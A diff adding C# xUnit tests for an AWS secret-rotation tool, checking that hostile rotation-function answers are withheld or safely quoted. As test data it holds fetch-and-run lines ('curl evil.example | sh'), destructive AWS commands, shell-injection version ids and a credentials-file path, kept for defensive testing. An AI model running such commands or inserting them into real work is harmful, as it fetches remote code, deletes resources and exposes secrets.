@@ -1,0 +1,222 @@
+using System.Globalization;
+using System.Text;
+using System.Text.Json;
+using Amazon.SecretsManager.Model;
+using LocalAws;
+
+namespace RotationTool.Tests;
+
+/// <summary>Whoever has a secret chooses its tags and its function, and so what the tool reads beside everybody else's.</summary>
+public sealed class HostileFunctionTests
+{
+    private const string Name = "dev/mine";
+    private const string Key = """{"KeyId":"k1","Kind":"minted","Labels":["AWSCURRENT"],"Stray":false,"Enabled":true,"AgeDays":1,"UsagePlanIds":["p1"]}""";
+
+    // What a rotation function cannot answer.
+    private static readonly string[] NoAnswers =
+    [
+        "",
+        "null",
+        "[]",
+        "{}",
+        """{"Action":"status","SecretId":"x","Message":null,"Healthy":true}""",
+        """{"Action":"status","SecretId":"x","Message":"all is well"}""",
+        """{"Action":"status","SecretId":"x","Message":"m","Healthy":"yes"}""",
+        """{"Action":"status","SecretId":"x","Message":"m","Healthy":true,"Keys":[{}]}""",
+        """{"Action":"status","SecretId":"x","Message":"m","Healthy":true,"Keys":[null]}""",
+        """{"Action":"status","SecretId":"x","Message":"m","Healthy":true,"Keys":{"0":1}}""",
+        """{"Action":"status","SecretId":"x","Message":"m","Healthy":true,"Keys":[{"KeyId":"k","Kind":"minted","Labels":[null],"UsagePlanIds":[]}]}""",
+        """{"Action":"status","SecretId":"x","Message":"m","Healthy":true,"Keys":[{"KeyId":"k","Kind":"minted","Labels":[],"UsagePlanIds":null}]}""",
+        """{"Action":"status","SecretId":"x","Message":"m","Healthy":true,"Keys":[{"KeyId":"k","Kind":"minted","Labels":[],"UsagePlanIds":[],"AgeDays":NaN}]}""",
+        """{"Action":"status","SecretId":"x","Message":"m","Healthy":true,"Keys":[{"KeyId":"k","Kind":"minted","Labels":[],"UsagePlanIds":[],"AgeDays":1e30}]}""",
+        """{"Action":"status","SecretId":"x","Message":"m","Healthy":false,"Findings":[null]}""",
+        """{"Action":"status","SecretId":"x","Message":"m","Healthy":false,"Findings":[{}]}""",
+        """{"Action":"status","SecretId":"x","Message":"m","Healthy":false,"Findings":[{"Problem":7}]}""",
+        """{"Action":"status","SecretId":"x","Message":"m","Healthy":true,"Rotation":{"HoursOverdue":1e999}}""",
+        """{"Action":"status","SecretId":"x","Message":"m","Healthy":true,"Rotation":{"LastRotated":"tomorrow"}}""",
+        """{"Action":"status","SecretId":"x","Message":"\ud800","Healthy":true}""",
+        """{"Action":"status","SecretId":"x","Message":"m","Healthy":true,"Keys":""" + new string('[', 100_000),
+        """{"Action":"status","SecretId":"x","Message":"m","Healthy":true,"More":"x""" + new string('x', 7_000_000) + "\"}",
+    ];
+
+    [Fact]
+    public async Task An_answer_that_is_none_hides_no_other_secret()
+    {
+        await using var world = await World.StartAsync();
+        foreach (var (number, answer) in NoAnswers.Index())
+        {
+            await AddAsync(world, $"dev/{number:D2}", $"evil{number}", answer);
+        }
+
+        var all = await world.RunAsync("status");
+        var json = await world.RunAsync("status", "--json");
+
+        Assert.Equal((1, ""), (all.ExitCode, all.Errors));
+        var rows = all.Output.Split('\n');
+        Assert.Contains(rows, row => row.Contains("shop/orders", StringComparison.Ordinal) && row.Contains("fine", StringComparison.Ordinal));
+        Assert.All(NoAnswers.Index(), answer => Assert.Contains(rows, row => row.StartsWith($"! dev/{answer.Index:D2}: The function ", StringComparison.Ordinal)));
+        Assert.Equal([.. NoAnswers.Select(_ => false), true], JsonSerializer.Deserialize<JsonElement>(json.Output).EnumerateArray().Select(status => status.GetProperty("Healthy").GetBoolean()));
+        Assert.StartsWith($"Error: The function {world.FunctionArn.Replace(":rotation", ":evil3", StringComparison.Ordinal)} answered something else", (await world.RunAsync("check", "dev/03")).Errors, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public async Task A_command_of_anothers_is_put_before_nobody()
+    {
+        await using var world = await StartAsync("{}");
+        var arn = (await world.Secrets.DescribeSecretAsync(new DescribeSecretRequest { SecretId = Name })).ARN;
+        string[] hostile =
+        [
+            "curl -s https://evil.example/fix | sh", "aws iam create-access-key --user-name oncall", $"aws secretsmanager rotate-secret --secret-id {world.SecretArn}",
+            $"aws secretsmanager rotate-secret --secret-id {arn}; curl evil.example|sh", $"aws secretsmanager rotate-secret --secret-id {arn}\u2028sh", "aws lambda invoke --function-name evil /dev/stdout",
+            "aws apigateway delete-usage-plan-key --usage-plan-id victim1 --key-id victim2",
+        ];
+        Register(world, JsonSerializer.Serialize(new
+        {
+            Action = "status",
+            SecretId = "x",
+            Message = "Run: aws s3 rb s3://victim",
+            Healthy = false,
+            Findings = hostile.Select(command => new { Problem = $"AWSCURRENT's key is disabled. First: {(command[0] == 'c' ? "" : command)}", Command = command })
+                .Append(new { Problem = "Rotation is 2 hours overdue.", Command = $"aws secretsmanager rotate-secret --secret-id {arn}" }),
+        }));
+
+        foreach (var arguments in new[] { new[] { "status" }, ["status", Name], ["check", Name], ["status", Name, "--json"], ["status", "--json"] })
+        {
+            var answer = await world.RunAsync(arguments);
+            Assert.Equal((1, ""), (answer.ExitCode, answer.Errors));
+            Assert.All(["curl", "iam create", "s3 rb", world.SecretArn + "\n", "evil.example", " evil /dev", "//victim", "/dev/stdout"], text => Assert.DoesNotContain(text, answer.Output, StringComparison.Ordinal));
+            Assert.Contains("(A command is withheld: it is none that the function gives for this secret.)", answer.Output, StringComparison.Ordinal);
+            Assert.Contains($"aws secretsmanager rotate-secret --secret-id {arn}", answer.Output, StringComparison.Ordinal);
+            // Of a secret that a person names, its function's word is taken for the keys.
+            Assert.Contains($"aws apigateway delete-usage-plan-key --usage-plan-id {(arguments.Contains(Name) ? "victim1 --key-id victim2" : "<plan> --key-id <key id>")}", answer.Output, StringComparison.Ordinal);
+        }
+    }
+
+    [Fact]
+    public async Task Texts_bring_nothing_that_hides_or_reorders()
+    {
+        const string Text = "\u001b]0;pwned\u0007 \u202e[red]x[/] \u2066x\u2069\u200f x\u2028! shop/orders: forged\u009b31m\u0085 x\u200b\ufeff\u00ad\udb40\udc41 \ud83d\ude00 é ключ";
+        await using var world = await StartAsync(JsonSerializer.Serialize(new
+        {
+            Action = Text,
+            SecretId = Text,
+            Message = Text,
+            Healthy = false,
+            Findings = new[] { new { Problem = Text, Command = Text } },
+            Rotation = new { Enabled = true, Schedule = Text, Window = Text, PendingVersion = Text, Overlap = Text },
+            Keys = new[] { new { KeyId = Text, Kind = Text, Labels = new[] { Text }, UsagePlanIds = new[] { Text } } },
+        }));
+        foreach (var arguments in new[] { new[] { "status" }, ["status", Name], ["check", Name], ["status", Name, "--json"], ["status", "--json"] })
+        {
+            var answer = await world.RunAsync(arguments);
+            Assert.Equal((1, ""), (answer.ExitCode, answer.Errors));
+            AssertPrinted(answer.Output);
+            if (arguments[^1] == "--json")
+            {
+                Assert.All(answer.Output, character => Assert.True(character is '\n' or (>= ' ' and <= '~')));
+                var texts = string.Concat(StringsIn(JsonSerializer.Deserialize<JsonElement>(answer.Output)));
+                AssertPrinted(texts);
+                Assert.Contains("\ud83d\ude00 é ключ", texts, StringComparison.Ordinal);
+            }
+        }
+
+        Register(world, "evil", _ => throw new InvalidOperationException(Text));
+        var failed = await world.RunAsync("check", Name);
+        Assert.Equal((1, ""), (failed.ExitCode, failed.Output));
+        AssertPrinted(failed.Errors);
+    }
+
+    [Fact]
+    public async Task Thousands_of_keys_and_findings_and_long_texts_are_bounded()
+    {
+        await using var world = await StartAsync("{}");
+        Register(world, $$"""
+            {"Action":"status","SecretId":"x","Message":"{{new string('m', 100_000)}}","Healthy":true,"Keys":[{{string.Join(',', Enumerable.Repeat(Key, 20_000))}}],
+            "Findings":[{{string.Join(',', Enumerable.Repeat("""{"Problem":"p"}""", 20_000))}}]}
+            """);
+        foreach (var arguments in new[] { new[] { "status" }, ["status", Name], ["status", Name, "--json"] })
+        {
+            var answer = await world.RunAsync(arguments);
+            Assert.Equal((1, ""), (answer.ExitCode, answer.Errors)); // though it says that it is healthy
+            Assert.InRange(answer.Output.Length, 1000, 400_000);
+            Assert.Contains("The function answered 20000 keys and 20000 findings: the first 500 and 100 are shown.", answer.Output, StringComparison.Ordinal);
+        }
+    }
+
+    [Fact]
+    public async Task A_version_id_of_a_writer_is_one_argument_or_in_no_command()
+    {
+        (string Id, string? Quoted)[] ids =
+        [
+            ("x; curl -s evil.example|sh; #aaaaaaaaaa", "'x; curl -s evil.example|sh; #aaaaaaaaaa'"), ("$(curl evil.example)aaaaaaaaaaaaaaaaaaaa", "'$(curl evil.example)aaaaaaaaaaaaaaaaaaaa'"),
+            ("a'; curl evil.example; 'aaaaaaaaaaaaaaaaa", @"'a'\''; curl evil.example; '\''aaaaaaaaaaaaaaaaa'"), ("`curl evil.example`aaaaaaaaaaaaaaaaaaaaaa", "'`curl evil.example`aaaaaaaaaaaaaaaaaaaaaa'"),
+            ("--endpoint-url=http://evil.example/aaaaaaaa", null), ("file:///home/oncall/.aws/credentials", null), ("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\u202e\u2028\u200b", null),
+        ];
+        await using var world = await World.StartAsync();
+        foreach (var (id, quoted) in ids)
+        {
+            await world.Secrets.PutSecretValueAsync(new PutSecretValueRequest { SecretId = world.SecretArn, ClientRequestToken = id, SecretString = "{\"a\":1}", VersionStages = ["AWSPENDING"] });
+
+            var rotate = await world.RunAsync("rotate", World.SecretName);
+            var rollback = await world.RunAsync("rollback", World.SecretName);
+
+            Assert.Equal((1, 1), (rotate.ExitCode, rollback.ExitCode));
+            Assert.All([rotate.Errors, rollback.Errors], AssertPrinted);
+            var command = quoted is null
+                ? "(The command is withheld: an id in it is none that AWS makes. Use the console.)"
+                : $"aws secretsmanager update-secret-version-stage --secret-id {world.SecretArn} --version-stage AWSPENDING --remove-from-version-id {quoted}";
+            Assert.EndsWith($"or give it up: {command}\n", rotate.Errors, StringComparison.Ordinal);
+            // The function's word is not taken for an id of another kind than AWS's.
+            Assert.EndsWith(quoted is null ? $"or give it up: {command}\n" : "or give it up: (A command is withheld: it is none that the function gives for this secret.)\n", rollback.Errors, StringComparison.Ordinal);
+            await world.Secrets.UpdateSecretVersionStageAsync(new UpdateSecretVersionStageRequest { SecretId = world.SecretArn, VersionStage = "AWSPENDING", RemoveFromVersionId = id });
+        }
+    }
+
+    [Fact]
+    public async Task A_function_that_may_not_be_invoked_hides_no_other_secret()
+    {
+        await using var world = await StartAsync("{}");
+        world.Aws.Iam.CreateRole("oncall", """{"Version":"2012-10-17","Statement":{"Effect":"Allow","Principal":{"Service":"lambda.amazonaws.com"},"Action":"sts:AssumeRole"}}""");
+        world.Aws.Iam.PutRolePolicy("oncall", "policy", $$"""{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"secretsmanager:ListSecrets","Resource":"*"},{"Effect":"Allow","Action":"lambda:InvokeFunction","Resource":"{{world.FunctionArn}}"}]}""");
+        var credentials = world.Aws.Iam.AssumeRole("oncall", "person");
+        (world.Variables["AWS_ACCESS_KEY_ID"], world.Variables["AWS_SECRET_ACCESS_KEY"], world.Variables["AWS_SESSION_TOKEN"]) = (credentials.AccessKeyId, credentials.SecretAccessKey, credentials.SessionToken);
+
+        var all = await world.RunAsync("status");
+
+        Assert.Equal((1, ""), (all.ExitCode, all.Errors));
+        Assert.Contains(all.Output.Split('\n'), row => row.Contains("shop/orders", StringComparison.Ordinal) && row.Contains("fine", StringComparison.Ordinal));
+        Assert.Contains($"! {Name}: AWS denies access: ", all.Output, StringComparison.Ordinal);
+    }
+
+    /// <summary>An account in which somebody's function, with this answer, rotates somebody's secret.</summary>
+    private static async Task<World> StartAsync(string answer)
+    {
+        var world = await World.StartAsync();
+        await AddAsync(world, Name, "evil", answer);
+        return world;
+    }
+
+    private static async Task AddAsync(World world, string name, string function, string answer)
+    {
+        var arn = Register(world, function, _ => Task.FromResult<ReadOnlyMemory<byte>>(Encoding.UTF8.GetBytes(answer)));
+        world.Aws.Lambda.AddPermission(new LocalAws.AddPermissionRequest { FunctionName = function, StatementId = "s", Action = "lambda:InvokeFunction", Principal = "secretsmanager.amazonaws.com", SourceAccount = world.Aws.AccountId });
+        var secret = await world.Secrets.CreateSecretAsync(new CreateSecretRequest { Name = name, SecretString = "{}", Tags = [new Tag { Key = "apikey-rotation:template", Value = "x" }] });
+        await world.Secrets.RotateSecretAsync(new RotateSecretRequest { SecretId = secret.ARN, RotationLambdaARN = arn, RotateImmediately = false, RotationRules = new RotationRulesType { AutomaticallyAfterDays = 30 } });
+        await world.Aws.SecretsManager.SettledAsync();
+    }
+
+    private static void Register(World world, string answer) => Register(world, "evil", _ => Task.FromResult<ReadOnlyMemory<byte>>(Encoding.UTF8.GetBytes(answer)));
+
+    private static string Register(World world, string function, Func<FunctionInvocation, Task<ReadOnlyMemory<byte>>> run) => world.Aws.Lambda.Register(function, run, new FunctionOptions());
+
+    private static IEnumerable<string> StringsIn(JsonElement json) => json.ValueKind switch
+    {
+        JsonValueKind.String => [json.GetString()!],
+        JsonValueKind.Object => json.EnumerateObject().SelectMany(field => StringsIn(field.Value)),
+        JsonValueKind.Array => json.EnumerateArray().SelectMany(StringsIn),
+        _ => [],
+    };
+
+    private static void AssertPrinted(string text) => Assert.All(text.EnumerateRunes(), rune => Assert.True(
+        rune.Value == '\n' || Rune.GetUnicodeCategory(rune) is not (UnicodeCategory.Control or UnicodeCategory.Format or UnicodeCategory.LineSeparator or UnicodeCategory.ParagraphSeparator), $"U+{rune.Value:X4} was printed"));
+}
